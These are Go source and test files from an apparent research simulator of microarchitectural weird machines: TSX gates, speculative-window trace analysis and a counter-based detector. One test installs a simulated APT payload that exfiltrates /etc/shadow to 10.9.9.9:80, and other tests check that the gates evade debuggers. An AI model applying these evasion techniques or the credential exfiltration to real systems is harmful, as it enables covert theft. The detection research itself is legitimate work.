	events = append(events, trace.Event{Kind: trace.KindCalibration, Value: 129})
	events = append(events, span(1, "job:gate", "job=job-00000001 request_id=req-aaa", read(36))...)
	events = append(events, span(2, "job:gate", "job=job-00000002 request_id=req-bbb", read(222), read(40))...)
	events = append(events, span(3, "job:sha1", "job=job-00000003")...)

	for _, tc := range []struct {
		query string
		want  int // events, including the span brackets and annotation
	}{
		{"job-00000001", 4},
		{"job=job-00000001", 4},
		{"req-bbb", 5},
		{"request_id=req-bbb", 5},
		{"job-00000003", 3},
		{"job-00000009", 0},
		{"job", 0},  // key alone does not match
		{"req", 0},  // prefixes do not match
		{"", 0},     // empty query selects nothing
		{"job:", 0}, // span names are not annotations
	} {
		got := FilterByAnnotation(events, tc.query)
		if len(got) != tc.want {
			t.Errorf("FilterByAnnotation(%q) = %d events, want %d: %v", tc.query, len(got), tc.want, got)
		}
	}

	// The filtered stream keeps its span brackets balanced and carries
	// the matched span's payload.
	got := FilterByAnnotation(events, "job-00000002")
	if got[0].Kind != trace.KindSpanBegin || got[len(got)-1].Kind != trace.KindSpanEnd {
		t.Errorf("filtered stream not bracketed: %v", got)
	}
	reads := 0
	for _, e := range got {
		if e.Kind == trace.KindTimedRead {
			reads++
		}
	}
	if reads != 2 {
		t.Errorf("filtered stream has %d timed reads, want 2", reads)
	}
}

func TestFilterByAnnotationNested(t *testing.T) {
	// A matched span includes its nested child spans, and a match on a
	// nested annotation pulls in only the inner span.
	inner := span(11, "attempt:1", "attempt=1", trace.Event{Kind: trace.KindTimedRead, Value: 40})
	events := span(10, "job:gate", "job=job-00000007", inner...)

	whole := FilterByAnnotation(events, "job-00000007")
	if len(whole) != len(events) {
		t.Errorf("outer match kept %d of %d events", len(whole), len(events))
	}
	nested := FilterByAnnotation(events, "attempt=1")
	if len(nested) != len(inner) {
		t.Errorf("inner match kept %d events, want %d: %v", len(nested), len(inner), nested)
	}
	for _, e := range nested {
		if e.Kind == trace.KindSpanBegin && e.Value != 11 {
			t.Errorf("inner match leaked outer span begin: %v", e)
		}
	}
}
