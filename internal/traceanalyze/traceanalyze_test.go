package traceanalyze

import (
	"bytes"
	"strings"
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

func sampleEvents() []trace.Event {
	return []trace.Event{
		{Kind: trace.KindCommit, Cycle: 1, PC: 0x40, Text: "XBEGIN fail"},
		{Kind: trace.KindTxBegin, Cycle: 2, PC: 0x40, Text: "xbegin fail"},
		{Kind: trace.KindSpecStart, Cycle: 3, Value: 40, Text: "window open"},
		{Kind: trace.KindSpecExec, Cycle: 4, PC: 0x48},
		{Kind: trace.KindCacheFill, Cycle: 10, Addr: 0x1000, Value: 80, Text: "transient fill"},
		{Kind: trace.KindSpecEnd, Cycle: 43, Value: 2, Text: "window closed"},
		{Kind: trace.KindTxAbort, Cycle: 44, PC: 0x60, Text: "abort"},
		{Kind: trace.KindTimedRead, Cycle: 50, Addr: 0x1000, Value: 30, Text: "gate=TSX_AND out=0 bit=1"},
	}
}

// TestJSONLRoundTrip: events written by trace.JSONLSink must come back
// identical through the offline parser.
func TestJSONLRoundTrip(t *testing.T) {
	events := sampleEvents()
	var buf bytes.Buffer
	sink := trace.NewJSONLSink(&buf)
	for _, e := range events {
		sink.Emit(e)
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}

	res, err := ParseJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if res.Truncated {
		t.Error("complete stream reported truncated")
	}
	if len(res.Events) != len(events) {
		t.Fatalf("got %d events, want %d", len(res.Events), len(events))
	}
	for i, got := range res.Events {
		if got != events[i] {
			t.Errorf("event %d: got %+v, want %+v", i, got, events[i])
		}
	}
}

// TestParseTruncatedFinalLine: a run killed mid-write leaves a partial
// last line; the parser must return the complete prefix.
func TestParseTruncatedFinalLine(t *testing.T) {
	events := sampleEvents()
	var buf bytes.Buffer
	sink := trace.NewJSONLSink(&buf)
	for _, e := range events {
		sink.Emit(e)
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}
	whole := buf.Bytes()
	cut := whole[:len(whole)-25] // chop into the final line

	res, err := ParseJSONL(bytes.NewReader(cut))
	if err != nil {
		t.Fatal(err)
	}
	if !res.Truncated {
		t.Error("truncated stream not flagged")
	}
	if len(res.Events) != len(events)-1 {
		t.Fatalf("prefix: got %d events, want %d", len(res.Events), len(events)-1)
	}
	for i, got := range res.Events {
		if got != events[i] {
			t.Errorf("event %d: got %+v, want %+v", i, got, events[i])
		}
	}
}

func TestParseEmptyFile(t *testing.T) {
	res, err := ParseJSONL(strings.NewReader(""))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Events) != 0 || res.Truncated {
		t.Errorf("empty file: %+v", res)
	}
	// Blank lines only are equally fine.
	res, err = ParseJSONL(strings.NewReader("\n\n  \n"))
	if err != nil || len(res.Events) != 0 {
		t.Errorf("blank-only file: %+v, %v", res, err)
	}
}

func TestParseRejectsMidFileGarbage(t *testing.T) {
	in := `{"kind":"commit","plane":"arch","cycle":1}
NOT JSON
{"kind":"commit","plane":"arch","cycle":2}
`
	if _, err := ParseJSONL(strings.NewReader(in)); err == nil {
		t.Error("mid-file garbage accepted")
	}
}

func TestParseRejectsUnknownKind(t *testing.T) {
	in := `{"kind":"warp-drive","plane":"uarch","cycle":1}` + "\n"
	if _, err := ParseJSONL(strings.NewReader(in)); err == nil || !strings.Contains(err.Error(), "warp-drive") {
		t.Errorf("unknown kind: %v", err)
	}
}

func TestParseRejectsChromeFormat(t *testing.T) {
	in := `{"displayTimeUnit":"ns","traceEvents":[` + "\n"
	_, err := ParseJSONL(strings.NewReader(in))
	if err == nil || !strings.Contains(err.Error(), "Chrome") {
		t.Errorf("chrome format: %v", err)
	}
}

func TestParseGateText(t *testing.T) {
	gate, out, bit, ok := parseGateText("gate=TSX_AND out=1 bit=0")
	if !ok || gate != "TSX_AND" || out != 1 || bit != 0 {
		t.Errorf("parseGateText: %q %d %d %v", gate, out, bit, ok)
	}
	for _, bad := range []string{"", "window open", "gate=X out=0 bit=7", "gate=X bit=1", "out=0 bit=1"} {
		if _, _, _, ok := parseGateText(bad); ok {
			t.Errorf("parseGateText accepted %q", bad)
		}
	}
}

// TestAnalyzeSynthetic checks every section of the report over a
// hand-built stream with known answers.
func TestAnalyzeSynthetic(t *testing.T) {
	var events []trace.Event
	cycle := int64(0)
	addCommit := func(n int) {
		for i := 0; i < n; i++ {
			cycle++
			events = append(events, trace.Event{Kind: trace.KindCommit, Cycle: cycle})
		}
	}
	// An activation: window of length L feeding a read of bit b.
	activation := func(l uint64, bit int, lat uint64) {
		addCommit(10)
		cycle++
		events = append(events, trace.Event{Kind: trace.KindTxBegin, Cycle: cycle})
		cycle++
		events = append(events, trace.Event{Kind: trace.KindSpecStart, Cycle: cycle, Value: l})
		// Contention inside the window.
		events = append(events, trace.Event{Kind: trace.KindNoise, Cycle: cycle + 1, Text: "interrupt"})
		events = append(events, trace.Event{Kind: trace.KindCacheEvict, Cycle: cycle + 2, Addr: 0xbeef})
		cycle += int64(l) + 1
		events = append(events, trace.Event{Kind: trace.KindTxAbort, Cycle: cycle})
		cycle++
		events = append(events, trace.Event{Kind: trace.KindTimedRead, Cycle: cycle, Value: lat,
			Text: "gate=TSX_AND out=0 bit=" + string(rune('0'+bit))})
	}
	activation(40, 1, 30)   // short window → hit → bit 1
	activation(200, 0, 250) // long window → miss → bit 0
	activation(40, 1, 32)
	activation(44, 1, 32) // 4th abort crosses the detector's tx minimum
	addCommit(50)

	r := Analyze(events, Options{})
	if r.Events != len(events) {
		t.Errorf("events = %d", r.Events)
	}
	if len(r.Gates) != 1 || r.Gates[0].Gate != "TSX_AND" {
		t.Fatalf("gates: %+v", r.Gates)
	}
	g := r.Gates[0]
	if g.Reads != 4 || g.Bits[0] != 1 || g.Bits[1] != 3 {
		t.Errorf("gate stats: %+v", g)
	}
	if g.LatencyByBit[1].Median != 32 {
		t.Errorf("bit=1 latency median = %v", g.LatencyByBit[1].Median)
	}
	if r.Spec.Windows != 4 {
		t.Errorf("spec windows = %d", r.Spec.Windows)
	}
	// The paper's race, recovered offline: windows feeding bit=1 reads
	// are the short ones.
	if r.Spec.ByOutcome[1].Max != 44 || r.Spec.ByOutcome[0].Min != 200 {
		t.Errorf("spec-by-outcome: %+v", r.Spec.ByOutcome)
	}
	if r.Tx.Begins != 4 || r.Tx.Aborts != 4 || r.Tx.Commits != 0 || r.Tx.AbortFraction != 1 {
		t.Errorf("tx stats: %+v", r.Tx)
	}
	if r.Overlaps.NoiseInWindow != 4 || r.Overlaps.EvictInWindow != 4 {
		t.Errorf("overlaps: %+v", r.Overlaps)
	}
	if !r.Detect.Suspicious {
		t.Errorf("abort-storm trace not flagged: %+v", r.Detect)
	}

	// Both output formats must carry the gate and the verdict.
	table := r.RenderTable()
	for _, want := range []string{"TSX_AND", "SUSPICIOUS", "spec", "abort"} {
		if !strings.Contains(table, want) {
			t.Errorf("table missing %q:\n%s", want, table)
		}
	}
	var buf bytes.Buffer
	if err := r.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"gate": "TSX_AND"`, `"suspicious": true`} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("json missing %q", want)
		}
	}
}

// TestAnalyzeBenignWindow: too little activity yields no verdict.
func TestAnalyzeBenign(t *testing.T) {
	events := []trace.Event{{Kind: trace.KindCommit, Cycle: 1}}
	r := Analyze(events, Options{})
	if r.Detect.Suspicious {
		t.Errorf("tiny benign trace flagged: %+v", r.Detect)
	}
	if len(r.Detect.Reasons) == 0 {
		t.Error("small-window caveat missing")
	}
}

// TestEndToEndGateTrace is the integration path: run real gates with a
// JSONL sink attached, parse the file back, and check the analysis
// recovers the gates and the speculative-window/outcome split.
func TestEndToEndGateTrace(t *testing.T) {
	var buf bytes.Buffer
	sink := trace.NewJSONLSink(&buf)
	m, err := core.NewMachine(core.Options{Seed: 7, Noise: noise.Paper(), TrainIterations: 3, Sink: sink})
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 8; i++ {
		a, b := i&1, (i>>1)&1
		if _, err := g.Run(a, b); err != nil {
			t.Fatal(err)
		}
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}

	res, err := ParseJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Events) == 0 {
		t.Fatal("no events captured")
	}
	r := Analyze(res.Events, Options{})
	if len(r.Gates) != 1 || r.Gates[0].Gate != "TSX_AND" {
		t.Fatalf("gates: %+v", r.Gates)
	}
	if r.Gates[0].Reads != 8-r.Gates[0].AbortedReads {
		t.Errorf("reads %d + aborted %d != 8 activations", r.Gates[0].Reads, r.Gates[0].AbortedReads)
	}
	if r.Spec.Windows == 0 {
		t.Error("no speculative windows recovered from a TSX gate run")
	}
	if r.Tx.Begins == 0 || r.Tx.Aborts == 0 {
		t.Errorf("tx regions not recovered: %+v", r.Tx)
	}
}
