package traceanalyze

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"

	"uwm/internal/analyzer"
	"uwm/internal/stats"
	"uwm/internal/trace"
)

// abortedReadSentinel matches the sentinel latency an aborted read
// transaction reports (see evalharness.readAborted): such samples carry
// no timing information.
const abortedReadSentinel = 1 << 19

// Options tunes the analysis.
type Options struct {
	// MaxOverlapSamples caps the listed contention incidents (the
	// counts are always exact). Default 8.
	MaxOverlapSamples int
	// Thresholds for the replayed detectability verdict; zero values
	// select DefaultThresholds.
	Thresholds Thresholds
}

// Thresholds calibrates the trace-replay detector. The abort-fraction
// ceiling is shared with the live HPC detector (package analyzer); the
// flush and speculation rates are trace-only signals the live detector
// cannot see.
type Thresholds struct {
	MaxAbortFraction float64
	MaxFlushPerInst  float64
	MaxSpecPerInst   float64
	MinEvents        uint64
}

// DefaultThresholds mirrors analyzer.DefaultHPCThresholds where the
// signals coincide and adds benign ceilings for the trace-only rates:
// ordinary programs essentially never execute clflush (μWM input
// writes do, constantly), and open a speculative window on at most a
// few percent of instructions.
func DefaultThresholds() Thresholds {
	hpc := analyzer.DefaultHPCThresholds()
	return Thresholds{
		MaxAbortFraction: hpc.MaxAbortFraction,
		MaxFlushPerInst:  0.02,
		MaxSpecPerInst:   0.05,
		MinEvents:        hpc.MinEvents,
	}
}

func (t *Thresholds) normalize() {
	d := DefaultThresholds()
	if t.MaxAbortFraction == 0 {
		t.MaxAbortFraction = d.MaxAbortFraction
	}
	if t.MaxFlushPerInst == 0 {
		t.MaxFlushPerInst = d.MaxFlushPerInst
	}
	if t.MaxSpecPerInst == 0 {
		t.MaxSpecPerInst = d.MaxSpecPerInst
	}
	if t.MinEvents == 0 {
		t.MinEvents = d.MinEvents
	}
}

// KindCount is one event-kind tally.
type KindCount struct {
	Kind  string `json:"kind"`
	Plane string `json:"plane"`
	Count int    `json:"count"`
}

// GateStats reconstructs one gate's timeline from its timed reads.
type GateStats struct {
	Gate         string           `json:"gate"`
	Reads        int              `json:"reads"`
	AbortedReads int              `json:"aborted_reads"`
	Bits         [2]int           `json:"bits"` // decoded 0s and 1s
	FirstCycle   int64            `json:"first_cycle"`
	LastCycle    int64            `json:"last_cycle"`
	LatencyByBit [2]stats.Summary `json:"latency_by_bit"`
}

// SpecStats is the speculative-window analysis: overall length
// distribution plus the paper's core correlation — window length
// versus the outcome of the gate read the window feeds.
type SpecStats struct {
	Windows      int              `json:"windows"`
	Lengths      stats.Summary    `json:"lengths"`
	ByOutcome    [2]stats.Summary `json:"lengths_by_outcome"`
	Unattributed int              `json:"unattributed"`
}

// TxStats summarises transactional regions.
type TxStats struct {
	Begins        int           `json:"begins"`
	Commits       int           `json:"commits"`
	Aborts        int           `json:"aborts"`
	AbortFraction float64       `json:"abort_fraction"`
	Durations     stats.Summary `json:"durations"`
}

// Overlap is one contention incident inside an open speculative window.
type Overlap struct {
	Kind   string `json:"kind"` // "noise-in-window" or "evict-in-window"
	Cycle  int64  `json:"cycle"`
	Detail string `json:"detail,omitempty"`
}

// OverlapStats counts contention incidents.
type OverlapStats struct {
	NoiseInWindow int       `json:"noise_in_window"`
	EvictInWindow int       `json:"evict_in_window"`
	Samples       []Overlap `json:"samples,omitempty"`
}

// Detectability is the HPC-style summary replayed from the trace: what
// a performance-counter defender would compute had it sampled this run.
type Detectability struct {
	Committed     int      `json:"committed"`
	SpecWindows   int      `json:"spec_windows"`
	TxAborts      int      `json:"tx_aborts"`
	TxCommits     int      `json:"tx_commits"`
	CacheFlushes  int      `json:"cache_flushes"`
	AbortFraction float64  `json:"abort_fraction"`
	SpecPerInst   float64  `json:"spec_per_inst"`
	FlushPerInst  float64  `json:"flush_per_inst"`
	Suspicious    bool     `json:"suspicious"`
	Reasons       []string `json:"reasons,omitempty"`
}

// Report is the full offline analysis of one trace.
type Report struct {
	Events     int           `json:"events"`
	Arch       int           `json:"arch_events"`
	Micro      int           `json:"micro_events"`
	FirstCycle int64         `json:"first_cycle"`
	LastCycle  int64         `json:"last_cycle"`
	Truncated  bool          `json:"truncated"`
	ByKind     []KindCount   `json:"by_kind"`
	Gates      []GateStats   `json:"gates,omitempty"`
	Spec       SpecStats     `json:"spec_windows"`
	Tx         TxStats       `json:"tsx"`
	Overlaps   OverlapStats  `json:"contention"`
	Detect     Detectability `json:"detectability"`
}

// parseGateText decodes the "gate=NAME out=N bit=B" payload of a
// timed-read event.
func parseGateText(text string) (gate string, out, bit int, ok bool) {
	out, bit = -1, -1
	for _, f := range strings.Fields(text) {
		k, v, found := strings.Cut(f, "=")
		if !found {
			continue
		}
		switch k {
		case "gate":
			gate = v
		case "out":
			if n, err := strconv.Atoi(v); err == nil {
				out = n
			}
		case "bit":
			if n, err := strconv.Atoi(v); err == nil {
				bit = n
			}
		}
	}
	return gate, out, bit, gate != "" && out >= 0 && (bit == 0 || bit == 1)
}

// Analyze computes the offline report over a decoded event stream.
func Analyze(events []trace.Event, opts Options) *Report {
	opts.Thresholds.normalize()
	if opts.MaxOverlapSamples == 0 {
		opts.MaxOverlapSamples = 8
	}
	r := &Report{Events: len(events)}
	if len(events) > 0 {
		r.FirstCycle = events[0].Cycle
		r.LastCycle = events[len(events)-1].Cycle
	}

	byKind := map[trace.Kind]int{}
	gates := map[string]*GateStats{}
	gateLat := map[string]*[2][]float64{}
	var specLens []float64
	var specByBit [2][]float64
	var pendingSpec []float64 // windows not yet attributed to a read
	var txDurations []float64
	txBegin, txOpen := int64(0), false

	// Open speculative window for contention checks: the simulator is
	// single-threaded, so at most one window is open at a time and
	// every following event inside [start, start+len) raced with it.
	specEnd := int64(-1)

	for _, e := range events {
		byKind[e.Kind]++
		if e.Kind.Architectural() {
			r.Arch++
		} else {
			r.Micro++
		}
		switch e.Kind {
		case trace.KindSpecStart:
			l := float64(e.Value)
			specLens = append(specLens, l)
			pendingSpec = append(pendingSpec, l)
			specEnd = e.Cycle + int64(e.Value)
		case trace.KindNoise:
			if e.Cycle <= specEnd {
				r.Overlaps.NoiseInWindow++
				if len(r.Overlaps.Samples) < opts.MaxOverlapSamples {
					r.Overlaps.Samples = append(r.Overlaps.Samples,
						Overlap{Kind: "noise-in-window", Cycle: e.Cycle, Detail: e.Text})
				}
			}
		case trace.KindCacheEvict:
			if e.Cycle <= specEnd {
				r.Overlaps.EvictInWindow++
				if len(r.Overlaps.Samples) < opts.MaxOverlapSamples {
					r.Overlaps.Samples = append(r.Overlaps.Samples,
						Overlap{Kind: "evict-in-window", Cycle: e.Cycle,
							Detail: fmt.Sprintf("addr=%#x %s", e.Addr, e.Text)})
				}
			}
		case trace.KindTxBegin:
			txBegin, txOpen = e.Cycle, true
		case trace.KindTxEnd, trace.KindTxAbort:
			if txOpen {
				txDurations = append(txDurations, float64(e.Cycle-txBegin))
				txOpen = false
			}
		case trace.KindTimedRead:
			gate, _, bit, ok := parseGateText(e.Text)
			if !ok {
				break
			}
			g := gates[gate]
			if g == nil {
				g = &GateStats{Gate: gate, FirstCycle: e.Cycle}
				gates[gate] = g
				gateLat[gate] = &[2][]float64{}
			}
			g.Reads++
			g.LastCycle = e.Cycle
			if e.Value >= abortedReadSentinel {
				g.AbortedReads++
			} else {
				g.Bits[bit]++
				gateLat[gate][bit] = append(gateLat[gate][bit], float64(e.Value))
				// The windows opened since the previous read fed this
				// outcome: the paper's race, replayed offline.
				specByBit[bit] = append(specByBit[bit], pendingSpec...)
				pendingSpec = pendingSpec[:0]
			}
		}
	}

	// Assemble ordered kind counts.
	for _, k := range trace.AllKinds() {
		if n := byKind[k]; n > 0 {
			plane := "uarch"
			if k.Architectural() {
				plane = "arch"
			}
			r.ByKind = append(r.ByKind, KindCount{Kind: k.String(), Plane: plane, Count: n})
		}
	}

	// Gate reports, sorted by name for determinism.
	names := make([]string, 0, len(gates))
	for n := range gates {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		g := gates[n]
		g.LatencyByBit[0] = stats.Summarize(gateLat[n][0])
		g.LatencyByBit[1] = stats.Summarize(gateLat[n][1])
		r.Gates = append(r.Gates, *g)
	}

	r.Spec = SpecStats{
		Windows:      len(specLens),
		Lengths:      stats.Summarize(specLens),
		ByOutcome:    [2]stats.Summary{stats.Summarize(specByBit[0]), stats.Summarize(specByBit[1])},
		Unattributed: len(pendingSpec),
	}

	r.Tx = TxStats{
		Begins:    byKind[trace.KindTxBegin],
		Commits:   byKind[trace.KindTxEnd],
		Aborts:    byKind[trace.KindTxAbort],
		Durations: stats.Summarize(txDurations),
	}
	if t := r.Tx.Commits + r.Tx.Aborts; t > 0 {
		r.Tx.AbortFraction = float64(r.Tx.Aborts) / float64(t)
	}

	r.Detect = replayDetector(byKind, r.Tx, opts.Thresholds)
	return r
}

// replayDetector recomputes the §7 HPC defender's view from the trace.
func replayDetector(byKind map[trace.Kind]int, tx TxStats, th Thresholds) Detectability {
	d := Detectability{
		Committed:     byKind[trace.KindCommit],
		SpecWindows:   byKind[trace.KindSpecStart],
		TxAborts:      tx.Aborts,
		TxCommits:     tx.Commits,
		CacheFlushes:  byKind[trace.KindCacheFlush],
		AbortFraction: tx.AbortFraction,
	}
	if d.Committed > 0 {
		d.SpecPerInst = float64(d.SpecWindows) / float64(d.Committed)
		d.FlushPerInst = float64(d.CacheFlushes) / float64(d.Committed)
	}
	if uint64(d.Committed) < th.MinEvents {
		d.Reasons = append(d.Reasons, fmt.Sprintf("window too small to judge (%d committed < %d)", d.Committed, th.MinEvents))
		return d
	}
	if d.TxAborts+d.TxCommits >= 4 && d.AbortFraction > th.MaxAbortFraction {
		d.Suspicious = true
		d.Reasons = append(d.Reasons, fmt.Sprintf("tx abort fraction %.3f exceeds %.3f", d.AbortFraction, th.MaxAbortFraction))
	}
	if d.FlushPerInst > th.MaxFlushPerInst {
		d.Suspicious = true
		d.Reasons = append(d.Reasons, fmt.Sprintf("clflush rate %.4f/inst exceeds %.4f", d.FlushPerInst, th.MaxFlushPerInst))
	}
	if d.SpecPerInst > th.MaxSpecPerInst {
		d.Suspicious = true
		d.Reasons = append(d.Reasons, fmt.Sprintf("speculative-window rate %.4f/inst exceeds %.4f", d.SpecPerInst, th.MaxSpecPerInst))
	}
	return d
}

// WriteJSON serialises the report as indented JSON.
func (r *Report) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(r)
}

// RenderTable lays the report out as aligned text for terminals.
func (r *Report) RenderTable() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== trace analysis ==\n")
	fmt.Fprintf(&sb, "events: %d (%d architectural, %d microarchitectural), cycles %d–%d",
		r.Events, r.Arch, r.Micro, r.FirstCycle, r.LastCycle)
	if r.Truncated {
		sb.WriteString(", TRUNCATED tail dropped")
	}
	sb.WriteString("\n\n-- events by kind --\n")
	for _, kc := range r.ByKind {
		fmt.Fprintf(&sb, "  %-12s %-5s %d\n", kc.Kind, kc.Plane, kc.Count)
	}

	if len(r.Gates) > 0 {
		sb.WriteString("\n-- per-gate timelines (from timed reads) --\n")
		fmt.Fprintf(&sb, "  %-12s %7s %7s %7s %7s  %-22s %-22s\n",
			"gate", "reads", "bit=0", "bit=1", "aborted", "lat med/max (bit=0)", "lat med/max (bit=1)")
		for _, g := range r.Gates {
			fmt.Fprintf(&sb, "  %-12s %7d %7d %7d %7d  %-22s %-22s\n",
				g.Gate, g.Reads, g.Bits[0], g.Bits[1], g.AbortedReads,
				fmt.Sprintf("%.0f / %.0f", g.LatencyByBit[0].Median, g.LatencyByBit[0].Max),
				fmt.Sprintf("%.0f / %.0f", g.LatencyByBit[1].Median, g.LatencyByBit[1].Max))
		}
	}

	sb.WriteString("\n-- speculative windows --\n")
	fmt.Fprintf(&sb, "  windows: %d   length min/med/max: %.0f / %.0f / %.0f cycles\n",
		r.Spec.Windows, r.Spec.Lengths.Min, r.Spec.Lengths.Median, r.Spec.Lengths.Max)
	for bit := 0; bit < 2; bit++ {
		s := r.Spec.ByOutcome[bit]
		if s.N > 0 {
			fmt.Fprintf(&sb, "  feeding bit=%d reads: n=%d med=%.0f q1=%.0f q3=%.0f\n",
				bit, s.N, s.Median, s.Q1, s.Q3)
		}
	}
	if r.Spec.Unattributed > 0 {
		fmt.Fprintf(&sb, "  unattributed windows (no following gate read): %d\n", r.Spec.Unattributed)
	}

	sb.WriteString("\n-- transactional regions --\n")
	fmt.Fprintf(&sb, "  begins %d, commits %d, aborts %d (abort fraction %.3f); duration med %.0f cycles\n",
		r.Tx.Begins, r.Tx.Commits, r.Tx.Aborts, r.Tx.AbortFraction, r.Tx.Durations.Median)

	sb.WriteString("\n-- contention inside open windows --\n")
	fmt.Fprintf(&sb, "  noise-in-window %d, evict-in-window %d\n",
		r.Overlaps.NoiseInWindow, r.Overlaps.EvictInWindow)
	for _, o := range r.Overlaps.Samples {
		fmt.Fprintf(&sb, "    [%d] %s %s\n", o.Cycle, o.Kind, o.Detail)
	}

	d := r.Detect
	sb.WriteString("\n-- detectability (HPC replay, §7) --\n")
	fmt.Fprintf(&sb, "  committed %d, spec windows %d (%.4f/inst), clflush %d (%.4f/inst), abort fraction %.3f\n",
		d.Committed, d.SpecWindows, d.SpecPerInst, d.CacheFlushes, d.FlushPerInst, d.AbortFraction)
	if d.Suspicious {
		fmt.Fprintf(&sb, "  verdict: SUSPICIOUS — %s\n", strings.Join(d.Reasons, "; "))
	} else if len(d.Reasons) > 0 {
		fmt.Fprintf(&sb, "  verdict: no verdict — %s\n", strings.Join(d.Reasons, "; "))
	} else {
		sb.WriteString("  verdict: benign\n")
	}
	return sb.String()
}
