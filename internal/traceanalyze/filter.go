package traceanalyze

import (
	"strings"

	"uwm/internal/trace"
)

// FilterByAnnotation returns the sub-stream of events that belong to
// spans carrying a matching annotation — the engine annotates each job
// span with "job=<id> request_id=<rid>", so a query of "job-00000003",
// "job=job-00000003" or the request id selects exactly that job's
// events (all attempts, including nested gate spans).
//
// A query matches an annotation when it equals one of its
// space-separated key=value tokens, or the value part of one. The
// returned slice preserves event order and includes the span-begin/end
// brackets of the matched spans, so the result remains a well-formed
// stream for Analyze or BuildProfile.
func FilterByAnnotation(events []trace.Event, query string) []trace.Event {
	matched := make(map[uint64]bool)
	for _, e := range events {
		if e.Kind == trace.KindAnnotation && annotationMatches(e.Text, query) {
			matched[e.Addr] = true
		}
	}
	if len(matched) == 0 {
		return nil
	}
	var out []trace.Event
	depth := 0
	for _, e := range events {
		switch e.Kind {
		case trace.KindSpanBegin:
			if matched[e.Value] {
				depth++
			}
			if depth > 0 {
				out = append(out, e)
			}
		case trace.KindSpanEnd:
			if depth > 0 {
				out = append(out, e)
			}
			if matched[e.Value] {
				depth--
			}
		default:
			if depth > 0 {
				out = append(out, e)
			}
		}
	}
	return out
}

// annotationMatches reports whether query selects an annotation text of
// space-separated key=value tokens.
func annotationMatches(text, query string) bool {
	if query == "" {
		return false
	}
	for _, tok := range strings.Fields(text) {
		if tok == query {
			return true
		}
		if i := strings.IndexByte(tok, '='); i >= 0 && tok[i+1:] == query {
			return true
		}
	}
	return false
}
