package traceanalyze

import (
	"uwm/internal/trace"
	"uwm/internal/vprof"
)

// BuildProfile replays a decoded event stream through the virtual-cycle
// profiler, producing the same attribution a live -cycleprof session
// builds for the identical stream. Span begins whose pair fell off a
// ring-buffer recording are tolerated (see vprof).
func BuildProfile(events []trace.Event) *vprof.Profiler {
	return vprof.FromEvents(events)
}
