package analyzer

import (
	"testing"

	"uwm/internal/core"
	"uwm/internal/otp"
	"uwm/internal/trace"
	"uwm/internal/wmapt"
)

// TestTSXGateArchitecturallyInvisible proves the paper's central claim
// inside the model: a TSX weird gate computes AND while the complete
// architectural evidence contains no AND instruction, no write of the
// result, and — for the aborted transaction — nothing between XBEGIN
// and the abort handler.
func TestTSXGateArchitecturallyInvisible(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 21})
	a := Attach(m, 0)
	g, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	a.Reset()
	out, err := g.Run(1, 1)
	if err != nil {
		t.Fatal(err)
	}
	if out[0] != 1 {
		t.Fatalf("AND(1,1) = %d", out[0])
	}

	if a.ExecutedOpcode("and") {
		t.Error("architectural AND instruction visible in the evidence")
	}
	begins, _, aborts := a.TxSummary()
	if begins == 0 || aborts == 0 {
		t.Fatalf("expected aborted transactions in evidence, got begins=%d aborts=%d", begins, aborts)
	}
	// The fire transaction's body (the div, the load chain) must not
	// appear: all the analyzer sees is begin followed by the handler.
	if a.ExecutedOpcode("div") {
		t.Error("the faulting div inside the aborted transaction leaked into the evidence")
	}
	if a.MicroEventCount() == 0 {
		t.Error("expected invisible microarchitectural events behind the computation")
	}
}

// TestDebuggerDestroysGate checks the anti-debug property: attaching
// the observer aborts every transactional region, collapsing gate
// outputs to 0 (§4: observing the read destroys the value).
func TestDebuggerDestroysGate(t *testing.T) {
	m := core.MustNewMachine(core.Options{Seed: 22})
	a := Attach(m, 0)
	g, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	out, err := g.Run(1, 1)
	if err != nil {
		t.Fatal(err)
	}
	if out[0] != 1 {
		t.Fatalf("undebugged AND(1,1) = %d", out[0])
	}

	a.Observe(true)
	out, err = g.Run(1, 1)
	if err != nil {
		t.Fatal(err)
	}
	if out[0] != 0 {
		t.Errorf("debugged AND(1,1) = %d; observation should destroy the value", out[0])
	}
	if m.CPU().Stats().ObservedAborts == 0 {
		t.Error("no observation-forced aborts recorded")
	}

	a.Observe(false)
	out, err = g.Run(1, 1)
	if err != nil {
		t.Fatal(err)
	}
	if out[0] != 1 {
		t.Errorf("post-debug AND(1,1) = %d; gate should recover", out[0])
	}
}

// TestAPTPassivePhaseLeaksNothing runs the weird obfuscation system
// under full architectural observation through a sequence of wrong
// triggers and verifies: the environment is untouched, no architectural
// XOR instruction ever executes (despite thousands of XOR gate
// operations), and the AES key bytes never appear in the evidence.
func TestAPTPassivePhaseLeaksNothing(t *testing.T) {
	if testing.Short() {
		t.Skip("APT experiment is slow")
	}
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Seed: 33, EvalMultiple: 2})
	if err != nil {
		t.Fatal(err)
	}
	a := Attach(apt.Machine(), 0)

	pad, err := apt.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.9.9.9:80"})
	if err != nil {
		t.Fatal(err)
	}
	before := env.Snapshot()

	// Wrong triggers: flip one bit of the real pad.
	wrong := pad
	wrong[0] ^= 1
	a.Reset()
	for i := 0; i < 5; i++ {
		res, err := apt.HandlePing(wrong)
		if err != nil {
			t.Fatal(err)
		}
		if res != nil {
			t.Fatal("payload fired on a wrong trigger")
		}
